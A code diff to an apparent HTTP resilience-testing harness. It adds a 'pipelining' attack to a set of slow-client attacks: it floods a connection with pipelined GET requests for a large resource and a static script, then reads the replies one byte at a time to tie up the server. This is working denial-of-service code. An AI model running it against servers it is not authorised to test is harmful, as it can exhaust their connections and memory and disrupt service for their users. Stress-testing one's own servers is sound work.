@@ -21,6 +21,9 @@ BODY = (
     "Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n"
 )
 READ = "GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\n{more}\r\n"
+# What a server may hold of each is multiplied by what fits in a packet or a few.
+AT_ONCE_BYTES = 8192
+OPEN_TO_ALL = "/static/script/viewer.js"
 
 Attack = Callable[["Attackers", int, socket.socket], Awaitable[None]]
 
@@ -89,6 +92,15 @@ class Attackers:
         while await loop.sock_recv(connection, 1):
             await asyncio.sleep(BYTE_S)
 
+    async def pipelining(self, number: int, connection: socket.socket) -> None:
+        """Ask for as much as fits into a few packets, and read the answers a byte at a time."""
+        loop = asyncio.get_running_loop()
+        path = (self.large, OPEN_TO_ALL)[number % 2]
+        head = READ.format(host=self.host, port=self.port, path=path, more="").encode()
+        await loop.sock_sendall(connection, head * (AT_ONCE_BYTES // len(head)))
+        while await loop.sock_recv(connection, 1):
+            await asyncio.sleep(BYTE_S)
+
     async def silent(self, _: int, connection: socket.socket) -> None:
         """Say nothing."""
         await _until_closed(connection)
@@ -98,6 +110,7 @@ ATTACKS: dict[str, Attack] = {
     "slow_head": Attackers.slow_head,
     "half_body": Attackers.half_body,
     "slow_reader": Attackers.slow_reader,
+    "pipelining": Attackers.pipelining,
     "silent": Attackers.silent,
 }
 
